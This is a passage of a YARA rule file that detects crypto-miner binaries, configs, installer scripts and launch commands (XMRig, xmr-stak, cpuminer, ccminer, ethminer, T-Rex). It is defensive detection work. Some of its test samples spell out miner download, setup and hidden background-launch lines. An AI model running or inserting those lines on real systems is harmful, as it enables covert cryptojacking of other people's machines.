/*
  Canary: crypto-miner rules.

  Written for Canary from public knowledge of each miner family (project READMEs, help
  texts, documented command lines and config formats). They compile with YARA-X (slow
  patterns are errors) and with classic YARA 4.2: no modules, only uint16/uint32 magic
  checks, plain, hex and regular-expression strings with long literal atoms.

  Conventions
  - Binary rules check the file magic: ELF (7f 45 4c 46), PE (MZ) or 64-bit Mach-O.
  - Text rules (scripts, configs, units) skip files with an executable magic.
  - No single weak word (xmrig, randomx, cryptonight, stratum) is enough for a critical
    rule; every rule combines several traits.
  - meta: positive / negative are examples that the test suite writes to files and scans
    (escapes: \n \t \" \\ \xNN).
*/

// ---------------------------------------------------------------------------------------
// XMRig and its forks
// ---------------------------------------------------------------------------------------

rule miner_xmrig_binary
{
  meta:
    id = "miner/xmrig"
    family = "xmrig"
    severity = "critical"
    description = "An XMRig miner executable (also renamed or stripped builds such as xmrig-notls): XMRig's own identity strings, C++ namespace or help text together with its mining options."
    references = "https://github.com/xmrig/xmrig https://xmrig.com/docs/miner/command-line-options"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00Usage: xmrig [OPTIONS]\x00\x00      --donate-level=N          donate level, default 1%%\x00donate.v2.xmrig.com\x00randomx\x00rx/0\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00blocked process names: xmrig minerd\x00stratum+tcp://\x00"
    positive2 = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00_ZN5xmrig6Client5loginEv\x00_ZN5xmrig7Network8onActiveEv\x00donate-level\x00rx/0\x00stratum+ssl://\x00"
    negative2 = "XMRig is a miner. Run it as: Usage: xmrig [OPTIONS] and see donate.v2.xmrig.com for the fee.\n"
  strings:
    $id1 = "Usage: xmrig [OPTIONS]"
    $id2 = "donate.v2.xmrig.com"
    $id3 = "donate.ssl.xmrig.com"
    $id4 = "N5xmrig"
    $id5 = "xmrig::"
    $id6 = "cryptonight_single_hash"
    $id7 = "donate-over-proxy"
    $id8 = "xmrig.json"
    $o1 = "donate-level"
    $o2 = "cpu-max-threads-hint"
    $o3 = "randomx-1gb-pages"
    $g1 = "randomx" nocase
    $g2 = "cryptonight" nocase
    $g3 = "stratum+tcp://"
    $g4 = "stratum+ssl://"
    $g5 = "rx/0"
    $g6 = "cn/r"
    $g7 = "rig-id"
    $g8 = "nicehash"
    $g9 = "mining.subscribe"
    $g10 = "max-cpu-usage"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and (
      2 of ($id*)
      or (1 of ($id*) and 2 of ($o*, $g*))
      or (1 of ($o*) and 5 of ($o*, $g*))
    )
}

rule miner_xmrig_proxy_binary
{
  meta:
    id = "miner/xmrig-proxy"
    family = "xmrig-proxy"
    severity = "critical"
    description = "An xmrig-proxy executable, the stratum proxy that aggregates many XMRig workers into a few pool connections."
    references = "https://github.com/xmrig/xmrig-proxy https://xmrig.com/docs/proxy"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00Usage: xmrig-proxy [OPTIONS]\x00custom-diff\x00access-log-file\x00donate-level\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00xmrig-proxy\x00http-proxy\x00"
  strings:
    $name = "xmrig-proxy"
    $a1 = "custom-diff"
    $a2 = "access-log-file"
    $a3 = "donate-level"
    $a4 = "N5xmrig"
    $a5 = "stratum+tcp://"
    $a6 = "nicehash"
    $a7 = "donate-over-proxy"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $name and 2 of ($a*)
}

rule miner_xmrig_gpu_plugin
{
  meta:
    id = "miner/xmrig-gpu-plugin"
    family = "xmrig"
    severity = "critical"
    description = "The xmrig-cuda plugin library (or the older xmrig-amd / xmrig-nvidia GPU miners), or a binary carrying XMRig's RandomX OpenCL kernels."
    references = "https://github.com/xmrig/xmrig-cuda"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00\x00xmrig-cuda\x00cnHash\x00rxHash\x00rxPrepare\x00kawPowHash\x00pluginVersion\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00\x00libcuda.so.1\x00cuInit\x00cnHash\x00"
    positive2 = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00__kernel void fillAes1Rx4_scratchpad(\x00__kernel void hashAes1Rx4(\x00__kernel void blake2b_initial_hash(\x00__kernel void randomx_run(\x00"
  strings:
    $p1 = "xmrig-cuda"
    $p2 = "xmrig-amd"
    $p3 = "xmrig-nvidia"
    $f1 = "cnHash"
    $f2 = "rxHash"
    $f3 = "rxPrepare"
    $f4 = "kawPowHash"
    $f5 = "pluginVersion"
    $f6 = "rxUpdateDataset"
    $k1 = "fillAes1Rx4_scratchpad"
    $k2 = "hashAes1Rx4"
    $k3 = "blake2b_initial_hash"
    $k4 = "randomx_run"
    $k5 = "fillAes4Rx4_entropy"
    $d1 = "donate-level"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and (
      (1 of ($p*) and (2 of ($f*) or 2 of ($k*) or $d1))
      or 4 of ($f*)
      or 3 of ($k*)
    )
}

rule miner_xmrig_moneroocean_binary
{
  meta:
    id = "miner/xmrig-moneroocean"
    family = "xmrig-moneroocean"
    severity = "critical"
    description = "MoneroOcean's fork of XMRig, which benchmarks algorithms (algo-perf) and mines whatever the MoneroOcean pool pays best."
    references = "https://github.com/MoneroOcean/xmrig https://moneroocean.stream"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00algo-perf\x00algo-min-time\x00gulf.moneroocean.stream\x00donate-level\x00N5xmrig\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00algo-perf\x00benchmark\x00"
  strings:
    $mo1 = "gulf.moneroocean.stream"
    $mo2 = "algo-perf"
    $mo3 = "algo-min-time"
    $mo4 = "moneroocean" nocase
    $x1 = "N5xmrig"
    $x2 = "donate-level"
    $x3 = "Usage: xmrig"
    $x4 = "randomx" nocase
    $x5 = "cpu-max-threads-hint"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and 2 of ($mo*) and 2 of ($x*)
}

rule miner_moneroocean_setup_script
{
  meta:
    id = "miner/moneroocean-setup-script"
    family = "xmrig-moneroocean"
    severity = "critical"
    description = "MoneroOcean's setup_moneroocean_miner.sh installer (or a copy of it): downloads XMRig, writes a pool config and installs a moneroocean_miner service."
    references = "https://github.com/MoneroOcean/xmrig_setup"
    positive = "#!/bin/bash\necho \"MoneroOcean mining setup script v2.11.\"\ncurl -L --progress-bar \"https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/xmrig.tar.gz\" -o /tmp/xmrig.tar.gz\ntar xf /tmp/xmrig.tar.gz -C $HOME/moneroocean\nsed -i 's/\"url\": *\"[^\"]*\",/\"url\": \"gulf.moneroocean.stream:10128\",/' $HOME/moneroocean/config.json\ncat >/tmp/moneroocean_miner.service <<EOL\n"
    negative = "See https://github.com/MoneroOcean/xmrig_setup for the upstream project; we do not ship it.\n"
  strings:
    $s1 = "moneroocean_miner"
    $s2 = "MoneroOcean/xmrig_setup"
    $s3 = "setup_moneroocean_miner"
    $s4 = "gulf.moneroocean.stream"
    $s5 = "$HOME/moneroocean"
    $s6 = "MoneroOcean mining setup script"
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 2MB and 2 of them
}

rule miner_c3pool_setup_script
{
  meta:
    id = "miner/c3pool-setup-script"
    family = "xmrig-c3pool"
    severity = "critical"
    description = "C3Pool's setup_c3pool_miner.sh installer (or a copy): downloads C3Pool's XMRig build (xmrig / xmrig-notls), points it at a c3pool host and installs a c3pool_miner service."
    references = "https://github.com/C3Pool/xmrig_setup https://c3pool.com"
    positive = "#!/bin/bash\nVERSION=2.11\necho \"C3Pool mining setup script v$VERSION.\"\nif ! curl -L --progress-bar \"http://download.c3pool.org/xmrig_setup/raw/master/xmrig.tar.gz\" -o /tmp/xmrig.tar.gz; then\n  echo \"ERROR\"\nfi\nsed -i 's/\"url\": *\"[^\"]*\",/\"url\": \"auto.c3pool.org:19999\",/' $HOME/c3pool/config.json\n"
    negative = "Pools we have seen in incidents: c3pool, supportxmr, nanopool.\n"
  strings:
    $s1 = "c3pool_miner"
    $s2 = "setup_c3pool_miner"
    $s3 = "download.c3pool.org"
    $s4 = "C3Pool/xmrig_setup"
    $s5 = "$HOME/c3pool"
    $s6 = "auto.c3pool.org"
    $s7 = "mine.c3pool.com"
    $s8 = "xmrig-notls"
    $s9 = "C3Pool mining setup script"
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 2MB and 2 of them
}

rule miner_xmrig_config
{
  meta:
    id = "miner/xmrig-config"
    family = "xmrig"
    severity = "critical"
    description = "An XMRig-style JSON config (config.json): a pools list with url and user plus XMRig-specific keys such as donate-level, randomx or rig-id."
    references = "https://xmrig.com/docs/miner/config https://github.com/xmrig/xmrig/blob/master/src/config.json"
    positive = "{\n    \"autosave\": true,\n    \"donate-level\": 1,\n    \"cpu\": { \"enabled\": true, \"huge-pages\": true },\n    \"randomx\": { \"init\": -1, \"mode\": \"auto\", \"1gb-pages\": false },\n    \"pools\": [\n        { \"url\": \"pool.supportxmr.com:443\", \"user\": \"YOUR_WALLET_ADDRESS\", \"pass\": \"x\", \"rig-id\": null, \"keepalive\": true, \"tls\": true }\n    ]\n}\n"
    negative = "{\n  \"pools\": [ { \"url\": \"postgres://db:5432/app\", \"user\": \"app\", \"keepalive\": true, \"max\": 10 } ]\n}\n"
    negative2 = "{\"pools\":[{\"url\":\"postgres://db:5432\",\"user\":\"app\",\"keepalive\":true,\"nicehash\":false,\"huge-pages\":true}]}\n"
  strings:
    $pools = /"pools"\s*:\s*\[/
    $url = /"url"\s*:\s*"/
    $user = /"user"\s*:\s*"/
    $x1 = /"donate-level"\s*:\s*[0-9]/
    $x2 = /"randomx"\s*:\s*\{/
    $x3 = /"rig-id"\s*:/
    $x4 = /"donate-over-proxy"\s*:/
    $x5 = /"max-threads-hint"\s*:/
    $x6 = /"1gb-pages"\s*:/
    $x7 = /"algo"\s*:\s*"(rx\/|cn\/|cn-|kawpow|ghostrider|argon2|astrobwt)/
    $x8 = /"algo-perf"\s*:/
    $w1 = /"huge-pages"\s*:/
    $w2 = /"nicehash"\s*:\s*(true|false)/
    $w3 = /"keepalive"\s*:\s*(true|false)/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 2MB and $pools and $url and $user and 1 of ($x*) and 2 of ($x*, $w*)
}

rule miner_xmrig_launch
{
  meta:
    id = "miner/xmrig-launch"
    family = "xmrig"
    severity = "critical"
    description = "A command line that starts XMRig (script, Dockerfile, cron, unit, entrypoint): the xmrig binary with a pool option, or XMRig-only options next to a stratum URL."
    references = "https://xmrig.com/docs/miner/command-line-options https://github.com/xmrig/xmrig"
    positive = "#!/bin/sh\ncd /tmp/.cache\nnohup ./xmrig -o pool.supportxmr.com:443 -u YOUR_WALLET_ADDRESS -k --tls --donate-level 1 --cpu-max-threads-hint=75 --background >/dev/null 2>&1 &\n"
    negative = "# Our IDS flags processes named xmrig and command lines that contain --donate-level.\n"
    negative2 = "Processes such as xmrig are flagged by the agent; use -c to choose another agent config or -o to set the output file.\n"
    negative3 = "Usage: xmrig [OPTIONS]\n  -o, --url=URL                 URL of mining server\n      --donate-level=N          donate level, default 1%\n      --cpu-max-threads-hint=N  maximum CPU threads count (in percentage) hint for autoconfig\n      --randomx-1gb-pages       use 1GB hugepages for RandomX dataset\n"
    positive2 = "ENTRYPOINT [\"/opt/miner/run\", \"--url=stratum+tcp://xmr.example-pool.net:3333\", \"--donate-level=0\", \"--randomx-1gb-pages\"]\n"
    positive3 = "RUN ./xmrig \\\n    -o xmr.example-pool.net:443 \\\n    -u YOUR_WALLET_ADDRESS --tls\n"
    negative4 = "CommandLine|contains:\n  - '--donate-level=0'\n  - 'stratum+tcp://'\n  - '--cpu-max-threads-hint'\n"
  strings:
    $x1 = /xmrig(-notls|-proxy|-cuda)?(\.exe)?['"]?,?\s+([^\n]|\\\n){0,300}((-o|--url)['"]?,?[= ]+['"]?(stratum[0-9]?\+(tcp|ssl|tls):\/\/)?[a-zA-Z0-9.-]{2,}:[0-9]{2,5}|(-c|--config)['"]?,?[= ]+['"]?[^ \t\r\n'"]{1,200}\.json)/ nocase
    $x2 = /nohup\s+([^\n]{0,100}[\/\s'"])?xmrig(-notls)?(\.exe)?[\s'";&|>]/ nocase
    $d1 = /--donate-level['"]?,?[= ]+['"]?[0-9]([^\n]|\\\n){0,300}(stratum[0-9]?\+(tcp|ssl|tls):\/\/|--cpu-max-threads-hint|--randomx-1gb-pages|--randomx-mode|--randomx-no-numa|--tls|--url|--coin)/
    $d2 = /(stratum[0-9]?\+(tcp|ssl|tls):\/\/|--cpu-max-threads-hint|--randomx-1gb-pages|--randomx-mode|--randomx-no-numa|--url)([^\n]|\\\n){0,300}--donate-level['"]?,?[= ]+['"]?[0-9]/
    $d3 = /--cpu-max-threads-hint['"]?,?[= ]+['"]?[0-9]([^\n]|\\\n){0,300}(stratum[0-9]?\+(tcp|ssl|tls):\/\/|--randomx-1gb-pages|--randomx-mode)/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 5MB
    and (
      any of them
    )
}

rule miner_randomx_msr_tuning
{
  meta:
    id = "miner/randomx-msr-tuning"
    family = "xmrig"
    severity = "medium"
    description = "A script that loads the msr module and writes the model-specific registers XMRig's randomx_boost.sh uses to speed up RandomX (AMD 0xc001102x, Intel 0x1a4); nothing but a CPU miner needs these values."
    references = "https://xmrig.com/docs/miner/randomx-optimization-guide/msr https://github.com/xmrig/xmrig/blob/master/scripts/randomx_boost.sh"
    positive = "#!/bin/sh\nmodprobe msr allow_writes=on\nif grep -E 'AMD Ryzen|AMD EPYC' /proc/cpuinfo > /dev/null; then\n  wrmsr -a 0xc0011020 0\n  wrmsr -a 0xc0011021 0x40\n  wrmsr -a 0xc0011022 0x1510000\n  wrmsr -a 0xc001102b 0x2000cc16\nelif grep \"Intel\" /proc/cpuinfo > /dev/null; then\n  wrmsr -a 0x1a4 0xf\nfi\n"
    negative = "#!/bin/sh\n# read the current power limit\nmodprobe msr\nrdmsr -a 0x610\n"
  strings:
    $m = /modprobe\s+msr/
    $w1 = /wrmsr\s+(-a\s+|-p\s*[0-9]+\s+)?0xc001102[0-9a-b]\s/ nocase
    $w2 = /wrmsr\s+(-a\s+|-p\s*[0-9]+\s+)?0x1a4\s+0xf/ nocase
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 1MB
    and (#w1 >= 2 or ($m and 1 of ($w*)))
}

// ---------------------------------------------------------------------------------------
// xmr-stak
// ---------------------------------------------------------------------------------------

rule miner_xmr_stak_binary
{
  meta:
    id = "miner/xmr-stak"
    family = "xmr-stak"
    severity = "critical"
    description = "An xmr-stak / xmr-stak-rx / xmr-stak-cpu miner executable (fireice-uk's CryptoNight and RandomX miner)."
    references = "https://github.com/fireice-uk/xmr-stak https://github.com/fireice-uk/xmr-stak/blob/master/doc/usage.md"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00xmr-stak-rx\x00donate.xmr-stak.net\x00pool_address\x00wallet_address\x00use_nicehash\x00--noCPU\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00xmr-stak\x00denylist\x00"
  strings:
    $n = "xmr-stak" nocase
    $o1 = "donate.xmr-stak.net"
    $o2 = "fireice-uk" nocase
    $o3 = "psychocrypt"
    $o4 = "pool_address"
    $o5 = "wallet_address"
    $o6 = "use_nicehash"
    $o7 = "--noCPU"
    $o8 = "cpu_threads_conf"
    $o9 = "tls_fingerprint"
    $o10 = "pool_weight"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 2 of ($o*)
}

rule miner_xmr_stak_config
{
  meta:
    id = "miner/xmr-stak-config"
    family = "xmr-stak"
    severity = "critical"
    description = "An xmr-stak pools.txt / config.txt: a pool_list entry with pool_address and wallet_address."
    references = "https://github.com/fireice-uk/xmr-stak/blob/master/doc/usage.md"
    positive = "\"pool_list\" :\n[\n\t{\"pool_address\" : \"pool.supportxmr.com:5555\", \"wallet_address\" : \"YOUR_WALLET_ADDRESS\", \"rig_id\" : \"\", \"pool_password\" : \"x\", \"use_nicehash\" : false, \"use_tls\" : false, \"tls_fingerprint\" : \"\", \"pool_weight\" : 1 },\n],\n\"currency\" : \"monero\",\n"
    negative = "{\"pool_address\": \"10.0.0.0/24\", \"pool_size\": 64, \"lease_time\": 3600}\n"
  strings:
    $pa = /"pool_address"\s*:/
    $wa = /"wallet_address"\s*:/
    $o1 = /"pool_list"\s*:/
    $o2 = /"pool_password"\s*:/
    $o3 = /"pool_weight"\s*:/
    $o4 = /"use_nicehash"\s*:/
    $o5 = /"rig_id"\s*:/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 1MB and $pa and $wa and 1 of ($o*)
}

// ---------------------------------------------------------------------------------------
// cpuminer family, ccminer, cgminer / bfgminer, ethminer
// ---------------------------------------------------------------------------------------

rule miner_cpuminer_binary
{
  meta:
    id = "miner/cpuminer"
    family = "cpuminer"
    severity = "critical"
    description = "A cpuminer / minerd executable (pooler's CPU miner and its many forks): its usage text or user agent together with stratum and getwork client strings."
    references = "https://github.com/pooler/cpuminer"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00Usage: minerd [OPTIONS]\x00  -a, --algo=ALGO       specify the algorithm to use\x00mining.subscribe\x00mining.authorize\x00X-Mining-Extensions\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cpuminer\x00process blocklist\x00"
  strings:
    $n1 = "Usage: minerd"
    $n2 = "User-Agent: cpuminer"
    $n3 = "cpuminer" nocase
    $n4 = "minerd"
    $t1 = "specify the algorithm to use"
    $t2 = "Stratum requested work restart"
    $t3 = "X-Mining-Extensions"
    $t4 = "X-Long-Polling"
    $t5 = "mining.subscribe"
    $t6 = "mining.authorize"
    $t7 = "mining.submit"
    $t8 = "stratum+tcp://"
    $t9 = "number of miner threads"
    $t10 = "scrypt(1024, 1, 1)"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and 1 of ($n*) and 3 of ($t*)
}

rule miner_cpuminer_multi_binary
{
  meta:
    id = "miner/cpuminer-multi"
    family = "cpuminer-multi"
    severity = "critical"
    description = "tpruvot's cpuminer-multi, a multi-algorithm CPU miner that also speaks the Monero-style stratum login."
    references = "https://github.com/tpruvot/cpuminer-multi"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cpuminer-multi\x00Usage: cpuminer [OPTIONS]\x00mining.subscribe\x00{\"method\": \"login\", \"params\": {\"login\": \"%s\", \"pass\": \"%s\", \"agent\": \"%s\"}, \"id\": 1}\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cpuminer-multi\x00"
  strings:
    $n = "cpuminer-multi"
    $t1 = "Usage: cpuminer"
    $t2 = "mining.subscribe"
    $t3 = "mining.authorize"
    $t4 = "stratum+tcp://"
    $t5 = "specify the algorithm to use"
    $t6 = /"method"\s?:\s?"login"/
    $t7 = "X-Mining-Extensions"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 2 of ($t*)
}

rule miner_cpuminer_opt_binary
{
  meta:
    id = "miner/cpuminer-opt"
    family = "cpuminer-opt"
    severity = "critical"
    description = "JayDDee's cpuminer-opt, an optimised multi-algorithm CPU miner (and forks built from it)."
    references = "https://github.com/JayDDee/cpuminer-opt"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cpuminer-opt\x00Usage: cpuminer [OPTIONS]\x00mining.subscribe\x00mining.authorize\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cpuminer-opt\x00optimizer\x00"
  strings:
    $n = "cpuminer-opt"
    $t1 = "Usage: cpuminer"
    $t2 = "mining.subscribe"
    $t3 = "mining.authorize"
    $t4 = "mining.submit"
    $t5 = "stratum+tcp://"
    $t6 = "specify the algorithm to use"
    $t7 = "Jay D Dee"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 2 of ($t*)
}

rule miner_cpuminer_gr_binary
{
  meta:
    id = "miner/cpuminer-gr"
    family = "cpuminer-gr"
    severity = "critical"
    description = "cpuminer-gr, the cpuminer-opt fork tuned for Raptoreum's GhostRider algorithm."
    references = "https://github.com/WyvernTKC/cpuminer-gr-avx2"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cpuminer-gr\x00Usage: cpuminer [OPTIONS]\x00Ghostrider\x00mining.subscribe\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cpuminer-gr\x00"
  strings:
    $n = "cpuminer-gr"
    $t1 = "Usage: cpuminer"
    $t2 = "mining.subscribe"
    $t3 = "mining.authorize"
    $t4 = "stratum+tcp://"
    $t5 = "ghostrider" nocase
    $t6 = "specify the algorithm to use"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 2 of ($t*)
}

rule miner_ccminer_binary
{
  meta:
    id = "miner/ccminer"
    family = "ccminer"
    severity = "critical"
    description = "A ccminer executable (the CUDA GPU miner by tpruvot and its forks)."
    references = "https://github.com/tpruvot/ccminer"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00Usage: ccminer [OPTIONS]\x00  -a, --algo=ALGO       specify the hash algorithm to use\x00mining.subscribe\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00ccminer\x00cuda\x00"
  strings:
    $n1 = "Usage: ccminer"
    $n2 = "ccminer/"
    $n3 = "ccminer" nocase
    $t1 = "specify the hash algorithm to use"
    $t2 = "mining.subscribe"
    $t3 = "mining.authorize"
    $t4 = "mining.submit"
    $t5 = "stratum+tcp://"
    $t6 = "Stratum requested work restart"
    $t7 = "X-Mining-Extensions"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and 1 of ($n*) and 2 of ($t*)
}

rule miner_cgminer_binary
{
  meta:
    id = "miner/cgminer"
    family = "cgminer"
    severity = "critical"
    description = "A cgminer executable (Con Kolivas' ASIC/FPGA miner, also the base of most ASIC firmware miners) with its stratum client."
    references = "https://github.com/ckolivas/cgminer"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cgminer\x00cgminer.conf\x00mining.subscribe\x00mining.notify\x00mining.set_difficulty\x00client.reconnect\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00cgminer\x00cgroup\x00"
  strings:
    $n1 = "cgminer" nocase
    $t1 = "mining.subscribe"
    $t2 = "mining.notify"
    $t3 = "mining.set_difficulty"
    $t4 = "client.reconnect"
    $t5 = "mining.extranonce.subscribe"
    $t6 = "stratum+tcp://"
    $t7 = "mining.authorize"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n1 and 3 of ($t*)
}

rule miner_bfgminer_binary
{
  meta:
    id = "miner/bfgminer"
    family = "bfgminer"
    severity = "critical"
    description = "A BFGMiner executable (Luke Dashjr's modular ASIC/FPGA miner) with its stratum client."
    references = "https://github.com/luke-jr/bfgminer"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00BFGMiner\x00bfgminer.conf\x00mining.subscribe\x00mining.notify\x00mining.set_difficulty\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00bfgminer\x00"
  strings:
    $n1 = "bfgminer" nocase
    $t1 = "mining.subscribe"
    $t2 = "mining.notify"
    $t3 = "mining.set_difficulty"
    $t4 = "client.reconnect"
    $t5 = "mining.extranonce.subscribe"
    $t6 = "stratum+tcp://"
    $t7 = "mining.authorize"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n1 and 3 of ($t*)
}

rule miner_ethminer_binary
{
  meta:
    id = "miner/ethminer"
    family = "ethminer"
    severity = "critical"
    description = "An ethminer executable (Ethash GPU miner) with its stratum and eth-proxy client strings."
    references = "https://github.com/ethereum-mining/ethminer"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00ethminer\x00EthereumStratum/1.0.0\x00eth_submitLogin\x00stratum1+tcp\x00--farm-recheck\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00ethminer\x00eth_getWork\x00eth_submitWork\x00eth_submitHashrate\x00"
  strings:
    $n = "ethminer" nocase
    $t1 = "eth_submitLogin"
    $t2 = "EthereumStratum/1.0.0"
    $t3 = "stratum1+tcp"
    $t4 = "stratum2+tcp"
    $t5 = "stratum+tcp://"
    $t6 = "mining.subscribe"
    $t7 = "--farm-recheck"
    $t8 = "--farm-retries"
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and $n and 2 of ($t*)
}

// ---------------------------------------------------------------------------------------
// Closed-source GPU miners: T-Rex, NBMiner, lolMiner, GMiner, PhoenixMiner, TeamRedMiner,
// SRBMiner, nanominer, BzMiner. Their binaries carry their own name in banners and help
// text; each rule pairs the name with several algorithm / option / stratum strings.
// ---------------------------------------------------------------------------------------

rule miner_trex_binary
{
  meta:
    id = "miner/t-rex"
    family = "t-rex"
    severity = "critical"
    description = "The T-Rex NVIDIA GPU miner: its name with its own options (api-bind-http, extra-dag-epoch) and GPU mining algorithms."
    references = "https://trex-miner.com https://github.com/trexminer/T-Rex"
    positive = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00T-Rex NVIDIA GPU miner\x00--api-bind-http\x00--extra-dag-epoch\x00kawpow\x00ethash\x00stratum+tcp://\x00"
    negative = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x00T-Rex runner game\x00sprite\x00"
  strings:
    $n1 = "T-Rex" ascii wide
    $n2 = "t-rex" ascii wide
    $s1 = "--api-bind-http" ascii wide
    $s2 = "--extra-dag-epoch" ascii wide
    $s3 = "--gpu-report-interval" ascii wide
    $s4 = "stratum+tcp" ascii wide
    $s5 = "stratum2+tcp" ascii wide
    $a1 = "kawpow" ascii wide
    $a2 = "ethash" ascii wide
    $a3 = "octopus" ascii wide
    $a4 = "autolykos2" ascii wide
    $a5 = "firopow" ascii wide
  condition:
    (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and 1 of ($n*) and 1 of ($s*) and 3 of ($s*, $a*)
}

rule miner_trex_config
{
  meta:
    id = "miner/t-rex-config"
    family = "t-rex"
    severity = "critical"
    description = "A T-Rex JSON config: api-bind-http next to a pools list with url and user."
    references = "https://github.com/trexminer/T-Rex https://trex-miner.com"
    positive = "{\n  \"algo\": \"kawpow\",\n  \"api-bind-http\": \"127.0.0.1:4067\",\n  \"pools\": [ { \"user\": \"YOUR_WALLET.rig1\", \"url\": \"stratum+tcp://rvn.2miners.com:6060\", \"pass\": \"x\", \"worker\": \"rig1\" } ]\n}\n"
    negative = "{ \"api-bind-http\": \"0.0.0.0:8080\", \"log-level\": \"info\" }\n"
  strings:
    $a = /"api-bind-http"\s*:/
    $pools = /"pools"\s*:\s*\[/
    $url = /"url"\s*:\s*"/
    $user = /"user"\s*:\s*"/
  condition:
    not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d or uint32(0) == 0xfeedfacf)
    and filesize < 1MB and all of them
}

rule miner_nbminer_binary
{
  meta:
